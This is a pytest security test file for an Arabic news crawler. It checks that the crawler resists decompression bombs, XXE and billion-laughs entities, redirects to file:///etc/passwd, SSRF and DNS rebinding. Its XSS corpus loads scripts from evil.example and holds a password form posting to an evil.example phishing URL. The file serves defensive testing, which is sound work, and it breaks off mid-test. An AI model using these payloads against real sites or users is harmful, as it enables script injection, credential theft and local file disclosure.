"""Hostile servers on loopback, one per case: each test asserts the bound that
held (time, bytes read, memory) and the outcome (a clear reason recorded on
the source through the real crawl and SQLite storage, the other sources
unaffected). Everything here talks to 127.0.0.1/127.0.0.2 only.

SSRF cases assert that the refused server saw no request at all.
"""

from __future__ import annotations

import asyncio
import dataclasses
import gzip
import html
import re
import socket
import threading
import time
import tracemalloc
import zlib
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import lxml.html
import pytest

from akhbar.config import load_settings
from akhbar.crawl import Crawler
from akhbar.extraction import sanitize_html
from akhbar.feeds import parse_feed
from akhbar.feeds.parser import MAX_ENTRIES, MAX_TITLE_CHARS
from akhbar.fetching import FetchError, Fetcher
from akhbar.models import Source

AR = "أعلنت الحكومة اليوم عن خطة جديدة لدعم الاقتصاد الوطني وتشجيع الاستثمار في المناطق الداخلية"


# -- the hostile server ------------------------------------------------------

class Hostile:
    """A ThreadingHTTPServer whose routes write their own responses (so they
    can drip, stream forever or lie). Logs every request path; counts the
    bytes each streaming route managed to send before the client hung up."""

    def __init__(self, host: str = "127.0.0.1"):
        self.routes: dict[str, object] = {}
        self.log: list[str] = []
        self.sent: dict[str, int] = {}
        self._lock = threading.Lock()
        srv = self

        class H(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):  # noqa: N802
                with srv._lock:
                    srv.log.append(self.path)
                route = srv.routes.get(self.path.split("?")[0])
                try:
                    if route is None:
                        srv.reply(self, 404, {"Content-Type": "text/plain"}, b"no")
                    else:
                        route(self)
                except (BrokenPipeError, ConnectionResetError, socket.timeout):
                    pass
                self.close_connection = True

            def log_message(self, *a):
                pass

        self.httpd = ThreadingHTTPServer((host, 0), H)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        self.base = f"http://{host}:{self.port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return self.base + path

    def hits(self, path: str) -> int:
        with self._lock:
            return sum(1 for p in self.log if p.split("?")[0] == path)

    @staticmethod
    def reply(h, status, headers, body: bytes, length: bool = True):
        h.send_response(status)
        for k, v in headers.items():
            h.send_header(k, v)
        if length and "Content-Length" not in headers:
            h.send_header("Content-Length", str(len(body)))
        h.send_header("Connection", "close")
        h.end_headers()
        h.wfile.write(body)

    def simple(self, path, body: bytes, status=200, headers=None):
        self.routes[path] = lambda h: self.reply(h, status, {"Content-Type": "application/rss+xml", **(headers or {})}, body)

    def stream(self, path, chunk: bytes, limit: int, headers=None):
        """Send *chunk* over and over (no Content-Length) up to *limit* bytes."""

        def route(h):
            h.send_response(200)
            for k, v in (headers or {"Content-Type": "application/rss+xml"}).items():
                h.send_header(k, v)
            h.send_header("Connection", "close")
            h.end_headers()
            total = 0
            try:
                while total < limit:
                    h.wfile.write(chunk)
                    total += len(chunk)
            finally:
                with self._lock:
                    self.sent[path] = total

        self.routes[path] = route

    def drip(self, path, *, in_headers=False, seconds=30):
        """One byte a second, for at most *seconds* (the test never waits that long)."""

        def route(h):
            h.wfile.write(b"HTTP/1.1 200 OK\r\n")
            if not in_headers:
                h.wfile.write(b"Content-Type: application/rss+xml\r\nConnection: close\r\n\r\n")
            h.wfile.flush()
            for _ in range(seconds):
                h.wfile.write(b"X" if in_headers else b"<")
                h.wfile.flush()
                time.sleep(1)

        self.routes[path] = route

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def hostile():
    s = Hostile()
    yield s
    s.close()


@pytest.fixture
def refused_host():
    """A second server on 127.0.0.2: loopback, but not in the allow list."""
    s = Hostile("127.0.0.2")
    yield s
    s.close()


def rss(items: list[dict], extra_head: str = "", channel_title: str = "مصدر") -> bytes:
    parts = []
    for it in items:
        parts.append(
            "<item>"
            + (f"<title>{it['title']}</title>" if "title" in it else "")
            + f"<link>{it['link']}</link>"
            + (f"<guid isPermaLink=\"false\">{it['guid']}</guid>" if "guid" in it else "")
            + (f"<pubDate>{it['date']}</pubDate>" if "date" in it else "")
            + (f"<description>{it['description']}</description>" if "description" in it else "")
            + (f"<content:encoded><![CDATA[{it['content']}]]></content:encoded>" if "content" in it else "")
            + (f'<media:content url="{it["image"]}" medium="image"/>' if "image" in it else "")
            + "</item>"
        )
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{extra_head}<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/">'
        f"<channel><title>{channel_title}</title><link>http://127.0.0.1/</link><description>-</description>"
        + "".join(parts) + "</channel></rss>"
    ).encode("utf-8")


def good_items(base: str, prefix: str, n: int = 3) -> list[dict]:
    return [dict(title=f"{AR} {prefix} {i}", link=f"{base}/{prefix}/{i}.html", guid=f"{prefix}-{i}",
                 description=f"{AR} {prefix} {i}. " * 3, date="Tue, 20 Feb 2018 01:44:01 GMT") for i in range(n)]


def fetch(settings, url, **kw):
    async def go():
        async with Fetcher(settings, retry_base=0.05, resolver=kw.pop("resolver", None)) as f:
            return await f.fetch(url, **kw)

    return asyncio.run(go())


def crawl(storage, settings, sources: dict[str, str], resolver=None):
    """Add *sources* (name -> URL), crawl them once; return ({name: Source}, report, seconds)."""
    for name, url in sources.items():
        storage.add_source(Source(url=url, name=name, lang="ar"))

    async def go():
        fetcher = Fetcher(settings, retry_base=0.05, resolver=resolver)
        try:
            return await Crawler(storage, settings, fetcher=fetcher).crawl_once()
        finally:
            await fetcher.aclose()

    t0 = time.monotonic()
    report = asyncio.run(go())
    took = time.monotonic() - t0
    return {s.name: s for s in storage.list_sources()}, report, took


def tight(settings, **kw):
    base = dict(fetch_timeout=5.0, fetch_deadline=3.0, max_bytes=1_000_000, retries=1)
    base.update(kw)
    return dataclasses.replace(settings, **base)


def peak_mib(fn):
    tracemalloc.start()
    try:
        result = fn()
    except Exception as exc:  # noqa: BLE001 - returned for the caller to assert on
        result = exc
    finally:
        peak = tracemalloc.get_traced_memory()[1] / 2**20
        tracemalloc.stop()
    return result, peak


# -- one crawl, every hostile source, one good one ----------------------------

def test_one_crawl_of_hostile_sources_records_each_reason_and_the_good_source_is_untouched(hostile, storage, settings):
    h = hostile
    base = h.base
    good = good_items(base, "good")
    h.simple("/good.xml", rss(good))
    for i, it in enumerate(good):
        h.routes[f"/good/{i}.html"] = (lambda body: lambda r: h.reply(r, 200, {"Content-Type": "text/html; charset=utf-8"}, body))(
            (f"<html><body><article><h1>{it['title']}</h1>" + f"<p>{AR} {i}.</p>" * 5 + "</article></body></html>")
            .encode())
    h.simple("/gzip-bomb.xml", gzip.compress(b" " * 50_000_000), headers={"Content-Encoding": "gzip"})
    h.simple("/deflate-bomb.xml", zlib.compress(b" " * 50_000_000, 9), headers={"Content-Encoding": "deflate"})
    h.simple("/nested-bomb.xml", gzip.compress(gzip.compress(b" " * 200_000_000, 9), 9),
             headers={"Content-Encoding": "gzip, gzip"})
    h.simple("/declared-huge.xml", b"<rss/>", headers={"Content-Length": str(10**12)})
    h.stream("/endless.xml", b"<item>" * 10_000, 1 << 30)
    for i in range(20):
        h.routes[f"/r{i}"] = (lambda n: lambda r: h.reply(r, 302, {"Location": f"/r{n + 1}"}, b""))(i)
    h.routes["/loop-a"] = lambda r: h.reply(r, 302, {"Location": "/loop-b"}, b"")
    h.routes["/loop-b"] = lambda r: h.reply(r, 301, {"Location": "/loop-a"}, b"")
    h.routes["/to-file"] = lambda r: h.reply(r, 302, {"Location": "file:///etc/passwd"}, b"")
    h.drip("/drip.xml")
    h.simple("/html.xml", b"<html><body>just a page</body></html>", headers={"Content-Type": "text/html"})
    h.simple("/binary.xml", bytes(range(256)) * 100, headers={"Content-Type": "application/octet-stream"})
    h.simple("/busy.xml", b"", status=503, headers={"Retry-After": "7200"})
    h.simple("/brotli.xml", b"\x8b\x02\x80hello\x03", headers={"Content-Encoding": "br"})

    cases = {
        "gzip bomb": ("/gzip-bomb.xml", r"cap"),
        "deflate bomb": ("/deflate-bomb.xml", r"cap"),
        "nested gzip bomb": ("/nested-bomb.xml", r"cap"),
        "declared 1 TB": ("/declared-huge.xml", r"1000000000000 bytes exceeds"),
        "endless body": ("/endless.xml", r"exceeds the 1000000-byte cap"),
        "endless redirects": ("/r0", r"more than 5 redirects"),
        "redirect loop": ("/loop-a", r"redirect loop"),
        "redirect to file:": ("/to-file", r"blocked: scheme 'file'"),
        "drip": ("/drip.xml", r"fetch deadline"),
        "not a feed": ("/html.xml", r"not a feed"),
        "binary": ("/binary.xml", r"not a feed"),
        "busy": ("/busy.xml", r"HTTP 503"),
        "unknown encoding": ("/brotli.xml", r"unsupported Content-Encoding 'br'"),
    }
    s = tight(settings)
    by_name, report, took = crawl(storage, s, {"good": h.url("/good.xml"), **{k: h.url(p) for k, (p, _) in cases.items()}})

    # bound: everything ran concurrently; the drip is cut by the 3 s deadline
    assert took < 15, took
    for name, (_path, reason) in cases.items():
        src = by_name[name]
        assert src.last_error and re.search(reason, src.last_error), (name, src.last_error)
        assert src.error_count == 1 and src.next_poll_at is not None, name
        assert storage.count_articles(src.id) == 0, name
    # the good source: ok, every item stored with its page text
    g = by_name["good"]
    assert g.last_error is None and g.error_count == 0
    stored = storage.list_articles(source_id=g.id).items
    assert sorted(a.title for a in stored) == sorted(it["title"] for it in good)
    assert all(a.extracted for a in stored)
    assert len(report.failed) == len(cases)
    # bytes read: the endless body was abandoned soon after the cap (socket buffers aside)
    assert h.sent.get("/endless.xml", 0) < 32 * 2**20, h.sent
    # redirects: one chain, not retried (the same chain would come back)
    assert h.hits("/r0") == 1 and h.hits("/r6") == 0
    # 503 + Retry-After: 7200 -> not polled again for two hours
    assert by_name["busy"].next_poll_at >= datetime.now(timezone.utc) + timedelta(seconds=7100)


# -- bombs: memory bound ---------------------------------------------------------

@pytest.mark.parametrize("encoding,body", [
    ("gzip", lambda: gzip.compress(b"\0" * 100_000_000, 9)),
    ("deflate", lambda: zlib.compress(b"\0" * 100_000_000, 9)),
    ("gzip, gzip", lambda: gzip.compress(gzip.compress(b"\0" * 500_000_000, 9), 9)),
    ("deflate, gzip", lambda: gzip.compress(zlib.compress(b"\0" * 500_000_000, 9), 9)),
])
def test_decompression_bombs_never_hold_more_than_the_cap(hostile, encoding, body):
    data = body()
    hostile.simple("/bomb", data, headers={"Content-Encoding": encoding})
    cap = 2_000_000
    s = load_settings(allow_hosts=("127.0.0.1",), retries=0, max_bytes=cap)
    err, peak = peak_mib(lambda: fetch(s, hostile.url("/bomb")))
    assert isinstance(err, FetchError) and "cap" in err.reason, err
    # without the bounded decoder one call inflated 100-500 MB here
    assert peak < 3 * cap / 2**20 + 8, f"{peak:.1f} MiB for a {len(data)}-byte {encoding} bomb"


def test_stacked_encodings_beyond_two_are_refused(hostile):
    hostile.simple("/triple", gzip.compress(gzip.compress(gzip.compress(b"x"))), headers={"Content-Encoding": "gzip, gzip, gzip"})
    with pytest.raises(FetchError, match="3 stacked Content-Encodings"):
        fetch(load_settings(allow_hosts=("127.0.0.1",), retries=0), hostile.url("/triple"))


def test_honest_gzip_deflate_raw_deflate_and_multi_member_gzip_still_read(hostile):
    feed = rss(good_items(hostile.base, "z"))
    raw = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    hostile.simple("/gz", gzip.compress(feed), headers={"Content-Encoding": "gzip"})
    hostile.simple("/zl", zlib.compress(feed), headers={"Content-Encoding": "deflate"})
    hostile.simple("/raw", raw.compress(feed) + raw.flush(), headers={"Content-Encoding": "deflate"})
    hostile.simple("/multi", gzip.compress(feed[:100]) + gzip.compress(feed[100:]), headers={"Content-Encoding": "gzip"})
    hostile.simple("/two", zlib.compress(gzip.compress(feed)), headers={"Content-Encoding": "gzip, deflate"})
    s = load_settings(allow_hosts=("127.0.0.1",), retries=0)
    for path in ("/gz", "/zl", "/raw", "/multi", "/two"):
        assert fetch(s, hostile.url(path)).body == feed, path


def test_corrupt_gzip_is_a_clear_error(hostile):
    hostile.simple("/bad", b"\x1f\x8b\x08\x00garbage-garbage", headers={"Content-Encoding": "gzip"})
    with pytest.raises(FetchError, match="corrupt gzip body"):
        fetch(load_settings(allow_hosts=("127.0.0.1",), retries=0), hostile.url("/bad"))


# -- time: the overall deadline ----------------------------------------------------

@pytest.mark.parametrize("in_headers", [False, True], ids=["body", "headers"])
def test_a_server_dripping_a_byte_a_second_is_cut_by_the_deadline(hostile, in_headers):
    hostile.drip("/drip", in_headers=in_headers)
    # the per-read timeout (5 s) never fires: a byte comes every second
    s = load_settings(allow_hosts=("127.0.0.1",), retries=2, fetch_timeout=5.0, fetch_deadline=2.0)
    t0 = time.monotonic()
    with pytest.raises(FetchError, match=r"gave up after 2 s \(fetch deadline\)"):
        fetch(s, hostile.url("/drip"))
    took = time.monotonic() - t0
    assert 1.9 < took < 5, took
    assert hostile.hits("/drip") == 1  # the deadline covers retries too: no second attempt


def test_deadline_covers_redirect_hops_and_retries(hostile):
    def slow_redirect(n):
        def route(h):
            time.sleep(0.6)
            hostile.reply(h, 302, {"Location": f"/slow{n + 1}"}, b"")
        return route

    for i in range(5):
        hostile.routes[f"/slow{i}"] = slow_redirect(i)
    s = load_settings(allow_hosts=("127.0.0.1",), retries=3, fetch_timeout=5.0, fetch_deadline=1.5, max_redirects=10)
    t0 = time.monotonic()
    with pytest.raises(FetchError, match="deadline"):
        fetch(s, hostile.url("/slow0"))
    assert time.monotonic() - t0 < 2.5


# -- XML: entities ---------------------------------------------------------------

def test_xxe_never_reads_a_local_file_nor_fetches_an_external_entity(hostile, storage, settings, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-7f3a9", encoding="utf-8")
    base = hostile.base
    doctype = (f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">'
               f'<!ENTITY ext SYSTEM "{base}/entity.txt">'
               f'<!ENTITY % pe SYSTEM "{base}/evil.dtd"> %pe;]>')
    items = [dict(title=f"{AR} &xxe; &ext;", link=f"{base}/a/{i}", guid=f"x{i}",
                  description=f"&xxe; {AR} " * 3) for i in range(2)]
    body = rss(items, extra_head=doctype, channel_title="&xxe;")
    hostile.simple("/xxe.xml", body)
    hostile.simple("/entity.txt", b"EXTERNAL-ENTITY-CONTENT")
    hostile.simple("/evil.dtd", f'<!ENTITY leak SYSTEM "file://{secret}">'.encode())
    # the parser alone
    feed = parse_feed(body, hostile.url("/xxe.xml"))
    dump = repr(feed)
    assert "TOPSECRET" not in dump and "EXTERNAL-ENTITY" not in dump
    # and the crawl: stored rows, the source's record, the pages
    by_name, _, _ = crawl(storage, dataclasses.replace(settings, fetch_pages=False), {"xxe": hostile.url("/xxe.xml")})
    arts = storage.list_articles(source_id=by_name["xxe"].id).items
    assert len(arts) == 2
    stored = repr(arts) + repr(by_name["xxe"])
    assert "TOPSECRET" not in stored and "EXTERNAL-ENTITY" not in stored
    assert hostile.hits("/entity.txt") == 0 and hostile.hits("/evil.dtd") == 0


def test_billion_laughs_is_not_expanded(hostile, storage, settings):
    ents = '<!ENTITY lol "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    body = rss([dict(title=f"{AR} &lol9;", link=f"{hostile.base}/a/1", description="&lol9;" * 10)],
               extra_head=f"<!DOCTYPE rss [{ents}]>", channel_title="&lol9;")
    # the parser alone: bounded time and memory (expanded it would be 3 GB)
    t0 = time.monotonic()
    feed, peak = peak_mib(lambda: parse_feed(body))
    assert time.monotonic() - t0 < 5 and peak < 50, peak
    assert all(len(e.title) < 2000 and len(e.summary) < 2000 for e in feed.entries)
    hostile.simple("/lol.xml", body)
    by_name, _, took = crawl(storage, dataclasses.replace(settings, fetch_pages=False), {"lol": hostile.url("/lol.xml")})
    assert took < 10
    for a in storage.list_articles(source_id=by_name["lol"].id).items:
        assert len(a.title) < 2000 and len(a.text) < 10_000


# -- size: 100,000 items ------------------------------------------------------------

def test_a_feed_of_100000_items_costs_what_2000_cost(hostile, storage, settings):
    # 100,000 items, 50 distinct articles among them (so the crawl below stores 50, not 2,000)
    items = "".join(f"<item><title>خبر {i}</title><link>{hostile.base}/n/{i % 50}</link><guid>g{i % 50}</guid>"
                    "<pubDate>Tue, 20 Feb 2018 01:44:01 GMT</pubDate></item>" for i in range(100_000))
    body = (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>كثير</title>'
            f"<link>{hostile.base}/</link>{items}</channel></rss>").encode()
    assert len(body) > 9_000_000
    t0 = time.monotonic()
    feed, peak = peak_mib(lambda: parse_feed(body))
    parse_s = time.monotonic() - t0
    assert len(feed.entries) == MAX_ENTRIES
    assert feed.entries[-1].title == f"خبر {MAX_ENTRIES - 1}"
    # before the cut feedparser took ~48 s and 141 MiB for this feed
    assert parse_s < 15 and peak < 100, (parse_s, peak)
    hostile.simple("/many.xml", body)
    s = dataclasses.replace(settings, fetch_pages=False, max_bytes=20_000_000)
    by_name, report, took = crawl(storage, s, {"many": hostile.url("/many.xml")})
    assert report.sources[0].entries == MAX_ENTRIES and report.sources[0].ok
    assert storage.count_articles(by_name["many"].id) == 50
    assert took < 30, took


# -- encodings ---------------------------------------------------------------------

def test_invalid_utf8_and_lying_charsets(hostile, storage, settings):
    base = hostile.base
    title = "الجزائر تعلن خطة جديدة"
    # declared utf-8 (header and XML) but really windows-1256
    cp = rss([dict(title=title, link=f"{base}/cp/1", guid="cp1", description=f"{AR} " * 3)]).decode().encode(
        "cp1256", "xmlcharrefreplace")
    hostile.simple("/liar.xml", cp, headers={"Content-Type": "application/rss+xml; charset=utf-8"})
    # declared windows-1256 but really utf-8
    u8 = rss([dict(title=title, link=f"{base}/u8/1", guid="u81", description=f"{AR} " * 3)])
    hostile.simple("/liar2.xml", u8, headers={"Content-Type": "application/rss+xml; charset=windows-1256"})
    # utf-8 with invalid bytes spliced into the title and the description
    bad = rss([dict(title=title, link=f"{base}/bad/1", guid="bad1", description=f"{AR} " * 3)]).replace(
        title.encode(), title.encode() + b"\xff\xfe\xc3")
    hostile.simple("/invalid.xml", bad)
    # an unknown charset label
    hostile.simple("/unknown.xml", u8.replace(b"/u8/1", b"/unk/1"), headers={"Content-Type": "application/rss+xml; charset=x-klingon"})
    by_name, report, _ = crawl(storage, dataclasses.replace(settings, fetch_pages=False),
                               {n: hostile.url(f"/{n}.xml") for n in ("liar", "liar2", "invalid", "unknown")})
    for name in ("liar", "liar2", "invalid", "unknown"):
        src = by_name[name]
        assert src.last_error is None, (name, src.last_error)
        arts = storage.list_articles(source_id=src.id).items
        assert len(arts) == 1, name
        assert arts[0].title.startswith(title), (name, arts[0].title)


# -- dates and titles ---------------------------------------------------------------

def test_dates_in_year_9999_and_0001_do_not_pin_or_break_anything(hostile, storage, settings):
    from fastapi.testclient import TestClient

    from akhbar.web.app import create_app

    base = hostile.base
    items = [
        dict(title=f"{AR} 9999", link=f"{base}/d/1", guid="d1", date="Fri, 31 Dec 9999 23:59:59 GMT", description=AR),
        dict(title=f"{AR} 0001", link=f"{base}/d/2", guid="d2", date="Mon, 01 Jan 0001 00:00:00 GMT", description=AR),
        dict(title=f"{AR} iso", link=f"{base}/d/3", guid="d3", date="9999-12-31T23:59:59+14:00", description=AR),
        dict(title=f"{AR} junk", link=f"{base}/d/4", guid="d4", date="32/13/-5 25:61", description=AR),
        # control: a Hijri year is not an impossible Gregorian one
        dict(title=f"{AR} hijri", link=f"{base}/d/5", guid="d5", date="الأحد 15 رمضان 1445 هـ", description=AR),
    ]
    hostile.simple("/dates.xml", rss(items))
    before = datetime.now(timezone.utc)
    by_name, _, _ = crawl(storage, dataclasses.replace(settings, fetch_pages=False), {"dates": hostile.url("/dates.xml")})
    arts = storage.list_articles(source_id=by_name["dates"].id).items
    assert len(arts) == 5 and by_name["dates"].last_error is None
    hijri = next(a for a in arts if a.guid == "d5")
    assert hijri.published == datetime(2024, 3, 25, tzinfo=timezone.utc)
    for a in [a for a in arts if a is not hijri]:
        # no usable date: the time it was fetched, not 9999 (top of every page forever) nor 0001
        assert before - timedelta(seconds=5) <= a.published <= datetime.now(timezone.utc) + timedelta(seconds=5), a
    client = TestClient(create_app(dataclasses.replace(settings, timezone="Pacific/Kiritimati"), storage))
    for url in ["/", f"/source/{by_name['dates'].id}", "/api/v1/articles"] + [f"/article/{a.id}" for a in arts]:
        assert client.get(url).status_code == 200, url


def test_empty_and_absurd_titles(hostile, storage, settings):
    from fastapi.testclient import TestClient

    from akhbar.web.app import create_app

    base = hostile.base
    huge = ("عنوان " * 200_000)[:1_000_000]
    items = [
        dict(title=huge, link=f"{base}/t/1", guid="t1", description=f"{AR}."),
        dict(title="", link=f"{base}/t/2", guid="t2", description=f"{AR} نص بلا عنوان."),
        dict(link=f"{base}/t/3", guid="t3", description=f"{AR} ولا عنوان هنا."),
        dict(title="   \u200f\u200e  ", link=f"{base}/t/4", guid="t4", description=f"{AR} عنوان من فراغات."),
        dict(title="x" * 1_000_000, link=f"{base}/t/5", guid="t5", description="y"),
    ]
    hostile.simple("/titles.xml", rss(items))
    by_name, _, took = crawl(storage, dataclasses.replace(settings, fetch_pages=False, max_bytes=5_000_000),
                             {"titles": hostile.url("/titles.xml")})
    arts = {a.guid: a for a in storage.list_articles(source_id=by_name["titles"].id).items}
    assert set(arts) == {"t1", "t2", "t3", "t4", "t5"} and took < 30
    assert len(arts["t1"].title) <= MAX_TITLE_CHARS + 1 and arts["t1"].title.endswith("…")
    assert len(arts["t5"].title) <= MAX_TITLE_CHARS + 1
    for g in ("t2", "t3", "t4"):  # a title is made from the text
        assert arts[g].title.strip() and AR[:10] in arts[g].title, (g, arts[g].title)
    client = TestClient(create_app(settings, storage))
    home = client.get("/")
    assert home.status_code == 200 and len(home.content) < 500_000
    for a in arts.values():
        assert client.get(f"/article/{a.id}").status_code == 200


# -- HTML: scripts, frames, handlers, URLs, CSS -----------------------------------

HOSTILE_HTML = """
<p>{ar}</p>
<script>alert('s1')</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>
<iframe src="javascript:alert('i1')"></iframe><iframe srcdoc="<script>alert('i2')</script>"></iframe>
<img src=x onerror="alert('e1')"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt=d>
<svg onload="alert('svg')"><script>alert('svg2')</script></svg><math><mtext><script>alert('m')</script></mtext></math>
<a href="javascript:alert('a1')">j1</a> <a href="JaVaScRiPt:alert('a2')">j2</a> <a href="&#106;avascript:alert('a3')">j3</a>
<a href=" javascript:alert('a4')">j4</a> <a href="vbscript:msgbox">j5</a> <a href="data:text/html,<script>alert('a6')</script>">j6</a>
<a href="https://ok.example/x" onclick="alert('c1')" onmouseover=alert('c2')>ok</a>
<p style="background:url(javascript:alert('css1'));position:fixed;top:0;left:0;width:100%;height:100%">{ar}</p>
<style>body{{background:url("javascript:alert('css2')")}} @import url(//evil.example/x.css);</style>
<div style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">{ar}</div>
<object data="javascript:alert('o')"></object><embed src="javascript:alert('em')">
<form action="https://evil.example/phish"><input name=pw type=password><button formaction="javascript:alert('f')">go</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert('meta')">
<link rel=stylesheet href="https://evil.example/x.css"><video poster="javascript:alert('v')"></video>
<details open ontoggle="alert('d')"><summary>s</summary></details><marquee onstart="alert('mq')">m</marquee>
<p>{ar}</p><p>{ar}</p>
"""

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "form", "input", "button", "base", "meta", "link",
                  "svg", "math", "video", "details", "marquee", "frame", "frameset", "applet"}


def assert_harmless(fragment_root, where: str):
    for el in fragment_root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag.lower() not in FORBIDDEN_TAGS, (where, el.tag)
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (where, el.tag, name)
            assert name.lower() not in ("style", "srcdoc", "formaction", "action", "poster", "background"), (where, name)
            if name.lower() in ("href", "src", "srcset", "data", "xlink:href"):
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme in ("", "http", "https"), (where, name, value)


def test_sanitizer_alone_on_the_hostile_corpus():
    out = sanitize_html(HOSTILE_HTML.format(ar=AR))
    assert AR in out and "https://ok.example/x" in out
    root = lxml.html.fragment_fromstring(out, create_parent="div")
    assert_harmless(root, "sanitize_html")
    for needle in ("<script", "javascript:", "onerror", "onload", "style=", "<iframe", "data:text", "srcdoc"):
        assert needle not in out.lower(), needle


def test_hostile_markup_is_harmless_in_the_stored_article_and_on_its_page(hostile, storage, settings):
    from fastapi.testclient import TestClient

    from akhbar.web.app import create_app

    base = hostile.base
    page = ("<!DOCTYPE html><html><head><title>صفحة</title><script>alert('head')</script></head><body><article>"
            f"<h1>{AR}</h1>" + HOSTILE_HTML.format(ar=AR) + "</article></body></html>").encode()
    hostile.routes["/page/1.html"] = lambda h: hostile.reply(h, 200, {"Content-Type": "text/html; charset=utf-8"}, page)
    items = [
        # the page is fetched and extracted
        dict(title=f"{AR} صفحة", link=f"{base}/page/1.html", guid="p1", description=AR, image="javascript:alert('img')"),
        # the feed's own content:encoded (the page is missing)
        dict(title=f"{AR} موجز", link=f"{base}/missing/2.html", guid="p2", description=AR,
             content=HOSTILE_HTML.format(ar=AR), image="data:image/svg+xml,<svg onload=alert(1)>"),
        # a link that is itself a script: never fetched, never stored
        dict(title="رابط خبيث", link="javascript:alert('link')", guid="p3", description=AR),
    ]
    hostile.simple("/html-feed.xml", rss(items))
    by_name, _, _ = crawl(storage, settings, {"markup": hostile.url("/html-feed.xml")})
    arts = {a.guid: a for a in storage.list_articles(source_id=by_name["markup"].id).items}
    assert set(arts) == {"p1", "p2"}
    assert arts["p1"].extracted and AR[:20] in arts["p1"].text
    client = TestClient(create_app(settings, storage))
    for a in arts.values():
        assert a.image is None, a.image  # javascript:/data: images dropped at the feed
        for where, frag in (("stored", a.html), ("api", client.get(f"/api/v1/articles/{a.id}").json()["html"])):
            assert_harmless(lxml.html.fragment_fromstring(frag or "<p></p>", create_parent="div"), f"{a.guid} {where}")
        res = client.get(f"/article/{a.id}")
        assert res.status_code == 200
        doc = lxml.html.fromstring(res.text)
        body = doc.xpath("//div[contains(concat(' ', @class, ' '), ' body ')]")[0]
        assert_harmless(body, f"{a.guid} page")
        markup = lxml.html.tostring(body, encoding="unicode")
        assert "<script" not in markup and not re.search(r"\son\w+\s*=", markup)
        assert AR[:20] in body.text_content()
        assert "script-src 'self'" in res.headers["content-security-policy"]
    home = client.get("/").text
    assert "javascript:" not in home and "alert(" not in home


# -- SSRF --------------------------------------------------------------------------

def test_strict_mode_refuses_loopback_even_when_allowed_and_the_server_sees_nothing(hostile):
    hostile.simple("/feed", rss([]))
    strict = load_settings(allow_hosts=("127.0.0.1", "localhost", "127.0.0.0/8"), ssrf_strict=True, retries=0)
    urls = [hostile.url("/feed"), hostile.base.replace("127.0.0.1", "localhost") + "/feed",
            f"http://[::ffff:127.0.0.1]:{hostile.port}/feed", f"http://2130706433:{hostile.port}/feed",
            f"http://0x7f.1:{hostile.port}/feed"]
    for url in urls:
        with pytest.raises(FetchError) as info:
            fetch(strict, url)
        assert "blocked" in info.value.reason or "cannot" in info.value.reason, (url, info.value.reason)
    # a name that a resolver maps onto loopback
    with pytest.raises(FetchError, match="blocked: news.example resolves to non-public address 127.0.0.1; strict"):
        fetch(strict, f"http://news.example:{hostile.port}/feed", resolver=_map({"news.example": ["127.0.0.1"]}))
    assert hostile.log == []
    # control: the same resolver, not strict, allowed -> the request does arrive
    relaxed = load_settings(allow_hosts=("127.0.0.1",), retries=0)
    assert fetch(relaxed, f"http://news.example:{hostile.port}/feed", resolver=_map({"news.example": ["127.0.0.1"]})).status == 200
    assert hostile.log == ["/feed"]


def test_strict_mode_from_the_environment(monkeypatch):
    monkeypatch.setenv("AKHBAR_SSRF_STRICT", "1")
    monkeypatch.setenv("AKHBAR_ALLOW_HOSTS", "127.0.0.1")
    s = load_settings()
    fetcher = Fetcher(s)
    try:
        assert s.ssrf_strict and fetcher.guard.strict and fetcher.guard.allow_nets == [] and fetcher.guard.allow_hosts == set()
    finally:
        asyncio.run(fetcher.aclose())


def _map(table: dict[str, list[str]]):
    async def resolve(host, port):
        if host not in table:
            raise OSError(f"cannot resolve {host}")
        return table[host]

    return resolve


def test_redirect_from_an_allowed_host_to_a_refused_one_sends_it_nothing(hostile, refused_host):
    refused_host.simple("/internal", b"secret")
    hostile.routes["/literal"] = lambda h: hostile.reply(h, 302, {"Location": refused_host.url("/internal")}, b"")
    hostile.routes["/named"] = lambda h: hostile.reply(h, 302, {"Location": f"http://intranet.example:{refused_host.port}/internal"}, b"")
    s = load_settings(allow_hosts=("127.0.0.1/32",), retries=0)
    resolver = _map({"intranet.example": ["127.0.0.2"]})
    for path in ("/literal", "/named"):
        with pytest.raises(FetchError, match="blocked: .*127.0.0.2"):
            fetch(s, hostile.url(path), resolver=resolver)
    assert hostile.hits("/literal") == 1 and hostile.hits("/named") == 1
    assert refused_host.log == []


def test_dns_rebinding_between_check_and_connect_is_refused(refused_host):
    refused_host.simple("/feed", b"internal")
    calls = []

    async def rebinding(host, port):
        calls.append(host)
        # first answer passes the URL check; the next one (at connect) points inside
        return ["127.0.0.1"] if len(calls) == 1 else ["127.0.0.2"]

    s = load_settings(allow_hosts=("127.0.0.1/32",), retries=0)
    with pytest.raises(FetchError, match="blocked: rebind.example resolves to non-public address 127.0.0.2"):
        fetch(s, f"http://rebind.example:{refused_host.port}/feed", resolver=rebinding)
    assert len(calls) == 2 and refused_host.log == []
    # control: the connection really goes to the address our resolver gave
    ok = load_settings(allow_hosts=("127.0.0.0/8",), retries=0)
